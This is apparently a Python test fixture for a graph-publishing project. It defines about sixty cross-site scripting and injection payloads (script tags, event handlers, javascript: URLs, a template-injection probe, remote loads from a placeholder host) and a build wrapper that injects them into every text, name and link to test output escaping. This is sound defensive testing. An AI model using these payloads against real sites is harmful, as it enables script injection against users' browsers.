"""Texts that try to run a script or to call out, and a build with one of them in every text and name that it holds."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from itertools import cycle
from urllib.parse import quote

import pyoxigraph as ox

from iomgraph.graph.names import Names
from iomgraph.model.document import Block, Document
from iomgraph.store import Build
from iomgraph.store.document_info import DocumentInfo
from iomgraph.vocabulary import term

ELSEWHERE = "elsewhere.invalid"
_RUN = "window.hit=1"
PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<!--<script>{_RUN}</script>-->",
    f"<!--<script></script><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</code></pre><script>{_RUN}</script>",
    f"</mark></a><script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<scr<script>ipt>{_RUN}</script>",
    f"<script src=//{ELSEWHERE}/x.js></script>",
    f"<script type=module>import 'https://{ELSEWHERE}/m.js'</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=//{ELSEWHERE}/i.png>",
    f"<img/src=x/onerror={_RUN}>",
    f"\"><img src=x onerror={_RUN}>",
    f"'><img src=x onerror={_RUN}>",
    f"`><img src=x onerror={_RUN}>",
    f"\" onmouseover={_RUN} x=\"",
    f"' onmouseover={_RUN} x='",
    f"\" autofocus onfocus={_RUN} x=\"",
    f" onfocus={_RUN} autofocus tabindex=1 ",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{_RUN}</script></svg>#x\">",
    f"<math><mtext><script>{_RUN}</script></mtext></math>",
    f"<math href=\"javascript:{_RUN}\">x</math>",
    f"<body onload={_RUN}>",
    "<iframe srcdoc=\"<script>parent.hit=1</script>\">",
    "<iframe src=\"javascript:parent.hit=1\">",
    f"<iframe src=//{ELSEWHERE}/>",
    f"<object data=\"javascript:{_RUN}\">",
    f"<object data=//{ELSEWHERE}/o></object>",
    f"<embed src=//{ELSEWHERE}/e>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<a href=\"javascript:{_RUN}\">x</a>",
    f"<form action=//{ELSEWHERE}/><button>x</button></form>",
    f"<base href=//{ELSEWHERE}/>",
    f"<meta http-equiv=refresh content=\"0;url=//{ELSEWHERE}/\">",
    f"<link rel=stylesheet href=//{ELSEWHERE}/s.css>",
    f"<link rel=prefetch href=//{ELSEWHERE}/p>",
    f"<style>@import '//{ELSEWHERE}/i.css'; body{{background:url(//{ELSEWHERE}/b)}}</style>",
    f"<p style=\"background:url(//{ELSEWHERE}/c)\">x</p>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"//{ELSEWHERE}/path",
    "{{ 7*7 }}{% set x = cycler.__init__.__globals__ %}",
    f"\u2028{_RUN}\u2029//",
    f"\u202e>tpircs/<{_RUN}>tpircs<",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;&#60;script&#62;{_RUN}&#60;/script&#62;",
)  # fmt: skip


class HostileBuild:
    """A build whose every text, source name and document text has payloads in it, and some of whose IRIs do."""

    def __init__(self, real: Build) -> None:
        self.names: Names = real.names
        self.generation = "hostile"
        self.store = ox.Store()
        self._payloads = cycle(PAYLOADS)
        self._renamed: dict[str, str] = {}
        self.store.extend(self._quads(real))
        self._infos = [self._info(info) for info in real.documents()]
        self._read = {self._iri(info.iri): real.read(info) for info in real.documents()}

    def documents(self) -> list[DocumentInfo]:
        """Return the document versions, their source names hostile."""
        return self._infos

    page = Build.page

    def read(self, info: DocumentInfo) -> Document:
        """Return a document, a payload in every line; its blocks and the places of facts point anywhere in it."""
        document = self._read[info.iri]
        text = "\n".join(line + next(self._payloads) for line in document.text.split("\n"))
        return replace(document, text=text, blocks=(*document.blocks, Block(0, len(text), "paragraph")))

    def renamed(self, iri: str) -> str:
        """Return what a thing is called here."""
        return self._renamed.get(iri, iri)

    def _info(self, info: DocumentInfo) -> DocumentInfo:
        release = self._iri(info.release) if info.release else None
        return DocumentInfo(self._iri(info.iri), next(self._payloads), info.lang, next(self._payloads), release)

    def _quads(self, real: Build) -> Iterator[ox.Quad]:
        page = term("foaf:page")
        for quad in real.store:
            target = quad.object
            if isinstance(target, ox.Literal) and target.datatype.value.endswith(("#string", "#langString")):
                text = target.value + next(self._payloads)
                target = ox.Literal(text, language=target.language) if target.language else ox.Literal(text)
            elif isinstance(target, ox.NamedNode):
                bad = quad.predicate.value == page
                target = ox.NamedNode("javascript:window.hit=1") if bad else ox.NamedNode(self._iri(target.value))
            yield ox.Quad(ox.NamedNode(self._iri(quad.subject.value)), quad.predicate, target, quad.graph_name)
        for info in real.documents():
            yield ox.Quad(
                ox.NamedNode(self._iri(info.iri)), ox.NamedNode(page), ox.NamedNode("javascript:window.hit=1")
            )

    def _iri(self, iri: str) -> str:
        """Return an IRI with a payload at its end where it is a person's, a body's, a session's or a release's."""
        kind = iri.removeprefix(self.names.base).partition("/")[0]
        if kind not in ("person", "session", "release", "conflict", "publication") or iri == self.names.base:
            return iri
        if iri not in self._renamed:
            # Of an IRI's own name only ASCII is ever percent-encoded (``view.local_name``).
            payload = "".join(c for c in next(self._payloads) if c.isascii() or c in "éñ")
            self._renamed[iri] = iri + quote(payload, safe="'();:@=,*!$&~éñ")
        return self._renamed[iri]
